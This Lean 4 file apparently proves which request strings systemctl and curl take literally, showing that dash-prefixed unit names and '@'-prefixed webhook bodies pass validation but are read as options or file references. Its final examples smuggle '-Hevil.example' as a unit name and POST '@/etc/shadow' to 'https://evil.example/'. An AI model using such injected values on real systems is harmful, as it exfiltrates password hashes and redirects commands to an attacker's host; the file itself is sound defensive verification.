import OsModa.Base.Argv
import OsModa.Routines.Routine
import OsModa.Watch.Watcher

/-!
The strings of a request that reach the argument vectors of `systemctl` and `curl`.

A unit name is a whole argument of `systemctl`, and nothing in front of it ends the options;
the validators of both daemons let a dash start it. The body of a webhook is the value of
`-d`, where a leading at sign asks for a file; nothing is validated about it. A URL that is
accepted starts with a letter. So what is read as it stands can be told from the first
characters (`readAsText_iff`).
-/

namespace OsModa.Watch

open OsModa.Text OsModa.Argv
open OsModa.Routines (RoutineAction validateRoutineAction validateWebhookUrl)

/-! ### The call sites -/

/-- `systemctl is-active`, of a health check and of the service monitor. -/
def isActiveArgs (unit : String) : List String := ["is-active", unit]

/-- The arguments of `curl` in a health check. -/
def httpGetArgs (url : String) : List String :=
  ["-s", "--proto", "=http,https", "--max-time", "5", "-o", "/dev/null", "-w",
    "%\x7bhttp_code\x7d", url]

/-- The arguments of `curl` in a webhook. -/
def webhookArgs (url method : String) (body : Option String) : List String :=
  ["-s", "--proto", "=http,https", "--max-time", "10", "-X", method, url] ++
    body.elim [] fun b => ["-d", b, "-H", "Content-Type: application/json"]

/-- What the two programs document. The value of `-d` names a file if it starts with an at
sign. -/
structure HelperPrograms where
  systemctl : Program
  curl : Program
  silent : curl.takesValue "-s" = false
  values : ∀ opt ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"], curl.takesValue opt = true
  data : ∀ v, curl.namesFile "-d" v = decide (v.toList.head? = some '@')

/-! ### Requests -/

inductive HelperRequest where
  | healthCheck (check : HealthCheck)
  | watchAction (action : WatchAction)
  | routineAction (action : RoutineAction)

namespace HelperRequest

/-- The validator of the daemon that takes the request. -/
def validate (u : Unicode) : HelperRequest → Except String Unit
  | healthCheck check => validateHealthCheck u check
  | watchAction action => validateWatchAction action
  | routineAction action => validateRoutineAction u action

@[simp] def units : HelperRequest → List String
  | healthCheck (.systemdUnit unit) => [unit]
  | watchAction (.restartService unit) => [unit]
  | routineAction (.serviceMonitor units) => units
  | _ => []

@[simp] def body : HelperRequest → Option String
  | routineAction (.webhook _ _ body) => body
  | _ => none

end HelperRequest

/-- A string of a request at its place in an argument vector. -/
structure Placement where
  program : HelperPrograms → Program
  args : List String
  index : Nat
  text : String

/-- The unit names, the URL and the body of a request, where they are placed. -/
@[simp] def HelperRequest.placements : HelperRequest → List Placement
  | healthCheck (.systemdUnit unit) =>
    [⟨HelperPrograms.systemctl, isActiveArgs unit, 1, unit⟩]
  | healthCheck (.httpGet url _) => [⟨HelperPrograms.curl, httpGetArgs url, 9, url⟩]
  | watchAction (.restartService unit) =>
    [⟨HelperPrograms.systemctl, restartArgs unit, 1, unit⟩]
  | routineAction (.serviceMonitor units) =>
    units.map fun unit => ⟨HelperPrograms.systemctl, isActiveArgs unit, 1, unit⟩
  | routineAction (.webhook url method body) =>
    ⟨HelperPrograms.curl, webhookArgs url method body, 7, url⟩ ::
      body.toList.map fun b => ⟨HelperPrograms.curl, webhookArgs url method body, 9, b⟩
  | _ => []

/-- Every string of the request is read as it stands. -/
def ReadAsText (tools : HelperPrograms) (r : HelperRequest) : Prop :=
  ∀ p ∈ r.placements, (p.program tools).TakesAsText p.args p.index p.text

/-! ### How they are read -/

section Reading

variable {u : Unicode} {tools : HelperPrograms}

theorem isDashed_eq_false_iff {arg : String} :
    isDashed arg = false ↔ (arg.toList.head? = some '-' → arg = "-") := by
  simp [isDashed]

/-- A unit name is read as it stands unless it is dashed. -/
theorem unit_takesAsText_iff {p : Program} {command unit : String}
    (hcommand : isDashed command = false) :
    p.TakesAsText [command, unit] 1 unit ↔ isDashed unit = false :=
  p.takesAsText_operand_iff [] (Program.complete_operand hcommand Program.complete_nil)

/-- What lowercases to a text that starts with a letter does not start with a dash. -/
theorem not_dashed_of_lowercase {url : String} {rest : List Char}
    (h : 'h' :: rest <+: toLowercase u url.toList) : isDashed url = false := by
  rw [isDashed_eq_false_iff]
  intro hdash
  obtain ⟨tail, htail⟩ := List.head?_eq_some_iff.mp hdash
  have hlower : u.toLower '-' = ['-'] := u.toLower_ascii '-' (by decide)
  rw [htail, toLowercase, lowercaseFrom, if_neg (by decide), hlower, List.singleton_append,
    List.cons_prefix_cons] at h
  exact absurd h.1 (by decide)

theorem not_dashed_of_scheme {url : String}
    (h : "http://".toList <+: toLowercase u url.toList ∨
      "https://".toList <+: toLowercase u url.toList) : isDashed url = false := by
  rcases h with h | h
  · exact not_dashed_of_lowercase h
  · exact not_dashed_of_lowercase h

theorem not_dashed_of_validateUrl {url : String} (h : validateUrl u url = .ok ()) :
    isDashed url = false := by
  dsimp only [validateUrl] at h
  split at h
  · rename_i hscheme
    exact not_dashed_of_scheme hscheme
  · cases h

theorem not_dashed_of_validateWebhookUrl {url : String} (h : validateWebhookUrl u url = .ok ()) :
    isDashed url = false := by
  dsimp only [validateWebhookUrl] at h
  split at h
  · rename_i hscheme
    exact not_dashed_of_scheme hscheme
  · cases h

/-- An option of `curl` and its value. -/
theorem curl_value {opt v : String} {pre : List String}
    (hopt : opt ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"])
    (hpre : tools.curl.Complete pre) : tools.curl.Complete (opt :: v :: pre) := by
  have hdashed : opt ≠ "--" ∧ isDashed opt = true := by
    revert opt
    decide
  exact Program.complete_value hdashed.1 hdashed.2 (tools.values opt hopt) hpre

/-- What both calls of `curl` start with. -/
theorem curl_start {seconds : String} {pre : List String} (hpre : tools.curl.Complete pre) :
    tools.curl.Complete (["-s", "--proto", "=http,https", "--max-time", seconds] ++ pre) := by
  have hflag : "-s" ≠ "--" ∧ isDashed "-s" = true := by decide
  have hproto : "--proto" ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"] := by decide
  have htime : "--max-time" ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"] := by decide
  exact Program.complete_flag hflag.1 hflag.2 tools.silent
    (curl_value hproto (curl_value htime hpre))

/-- What `curl` reads in front of the URL of a health check. -/
theorem complete_httpGet : tools.curl.Complete ["-s", "--proto", "=http,https", "--max-time", "5",
    "-o", "/dev/null", "-w", "%{http_code}"] := by
  have hout : "-o" ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"] := by decide
  have hwrite : "-w" ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"] := by decide
  exact curl_start (curl_value hout (curl_value hwrite Program.complete_nil))

/-- What it reads in front of the URL of a webhook. -/
theorem complete_webhook {method : String} {pre : List String} (hpre : tools.curl.Complete pre) :
    tools.curl.Complete
      (["-s", "--proto", "=http,https", "--max-time", "10", "-X", method] ++ pre) := by
  have hmethod : "-X" ∈ ["--proto", "--max-time", "-o", "-w", "-X", "-d"] := by decide
  exact curl_start (curl_value hmethod hpre)

theorem httpGet_url_takesAsText_iff {url : String} :
    tools.curl.TakesAsText (httpGetArgs url) 9 url ↔ isDashed url = false :=
  tools.curl.takesAsText_operand_iff [] complete_httpGet

theorem webhook_url_takesAsText_iff {url method : String} {body : Option String} :
    tools.curl.TakesAsText (webhookArgs url method body) 7 url ↔ isDashed url = false :=
  tools.curl.takesAsText_operand_iff _ (complete_webhook Program.complete_nil)

/-- The body is read as it stands unless it starts with an at sign. -/
theorem webhook_body_takesAsText_iff {url method b : String} (hurl : isDashed url = false) :
    tools.curl.TakesAsText (webhookArgs url method (some b)) 9 b ↔
      b.toList.head? ≠ some '@' := by
  have hpre : tools.curl.Complete
      ["-s", "--proto", "=http,https", "--max-time", "10", "-X", method, url] :=
    complete_webhook (Program.complete_operand hurl Program.complete_nil)
  have hdata : tools.curl.TakesAsText (webhookArgs url method (some b)) 9 b ↔
      tools.curl.namesFile "-d" b = false :=
    tools.curl.takesAsText_value_iff ["-H", "Content-Type: application/json"] hpre (by decide)
      (by decide) (tools.values "-d" (by decide))
  rw [tools.data, decide_eq_false_iff_not] at hdata
  exact hdata

end Reading

/-- The strings of an accepted request are read as they stand if and only if no unit name
starts with a dash, unless it is one, and no body starts with an at sign. -/
theorem readAsText_iff (u : Unicode) (tools : HelperPrograms) (r : HelperRequest)
    (haccepted : r.validate u = .ok ()) :
    ReadAsText tools r ↔
      (∀ unit ∈ r.units, unit.toList.head? = some '-' → unit = "-") ∧
        ∀ b, r.body = some b → b.toList.head? ≠ some '@' := by
  unfold ReadAsText
  simp only [← isDashed_eq_false_iff]
  have hactive : isDashed "is-active" = false := by decide
  have hrestart : isDashed "restart" = false := by decide
  cases r with
  | healthCheck check =>
    cases check with
    | systemdUnit unit =>
      simpa [isActiveArgs] using unit_takesAsText_iff hactive
    | httpGet url status =>
      have hurl : isDashed url = false := not_dashed_of_validateUrl haccepted
      simpa using httpGet_url_takesAsText_iff.mpr hurl
    | tcpPort host port => simp
    | command cmd args => simp
  | watchAction action =>
    cases action with
    | restartService unit =>
      simpa [restartArgs] using unit_takesAsText_iff hrestart
    | rollbackGeneration => simp
    | notify message => simp
  | routineAction action =>
    cases action with
    | serviceMonitor units =>
      simp [isActiveArgs,
        unit_takesAsText_iff hactive]
    | webhook url method body =>
      have hurl : isDashed url = false := not_dashed_of_validateWebhookUrl haccepted
      cases body with
      | none =>
        simpa using webhook_url_takesAsText_iff.mpr hurl
      | some b =>
        simp [webhook_url_takesAsText_iff, webhook_body_takesAsText_iff, hurl]
    | healthCheck => simp
    | logScan priority => simp
    | memoryMaintenance => simp
    | command cmd args => simp

/-! ### A request of each kind -/

/-- The options of the two programs, as their manuals list them, that take a value in the next
argument or read a file. -/
def plainPrograms : HelperPrograms where
  systemctl :=
    { takesValue := fun opt => decide (opt ∈ ["-t", "--type", "--state", "-p", "--property",
        "-P", "-s", "--signal", "-H", "--host", "-M", "--machine", "-n", "--lines", "-o",
        "--output", "--root", "--image", "--job-mode", "--kill-whom", "--what"])
      namesFile := fun _ _ => false }
  curl :=
    { takesValue := fun opt => decide (opt ∈ ["--proto", "--max-time", "-m", "-o", "--output",
        "-w", "--write-out", "-X", "--request", "-d", "--data", "-H", "--header", "-K",
        "--config", "-x", "--proxy", "-u", "--user", "-T", "--upload-file"])
      namesFile := fun opt v => decide (opt ∈ ["-d", "--data", "-H", "--header", "-w"] ∧
        v.toList.head? = some '@') }
  silent := by decide
  values := by decide
  data v := by simp

/-- A monitor of one unit, made from a template. -/
def monitorGetty : HelperRequest := .routineAction (.serviceMonitor ["getty@tty1.service"])

theorem monitorGetty_read :
    (monitorGetty.validate .ascii = .ok ()) ∧
      (ReadAsText plainPrograms monitorGetty ↔
        (∀ unit ∈ monitorGetty.units, unit.toList.head? = some '-' → unit = "-") ∧
          ∀ b, monitorGetty.body = some b → b.toList.head? ≠ some '@') :=
  ⟨by decide, readAsText_iff .ascii plainPrograms monitorGetty (by decide)⟩

/-- A unit that asks `systemctl` about another machine. -/
def monitorElsewhere : HelperRequest := .routineAction (.serviceMonitor ["-Hevil.example"])

/-- A body that asks `curl` for a file of this one. -/
def webhookFile : HelperRequest :=
  .routineAction (.webhook "https://evil.example/" "POST" (some "@/etc/shadow"))

theorem dash_and_at_read :
    (monitorElsewhere.validate .ascii = .ok () ∧ ¬ ReadAsText plainPrograms monitorElsewhere) ∧
      webhookFile.validate .ascii = .ok () ∧ ¬ ReadAsText plainPrograms webhookFile := by
  refine ⟨⟨by decide, fun h => ?_⟩, by decide, fun h => ?_⟩
  · have hunit : plainPrograms.systemctl.TakesAsText ["is-active", "-Hevil.example"] 1
        "-Hevil.example" := h _ (List.mem_singleton_self _)
    rw [unit_takesAsText_iff (by decide)] at hunit
    exact absurd hunit (by decide)
  · have hbody := h _ (List.mem_cons_of_mem _ (List.mem_singleton_self _))
    rw [webhook_body_takesAsText_iff (by decide)] at hbody
    exact hbody (by decide)

end OsModa.Watch
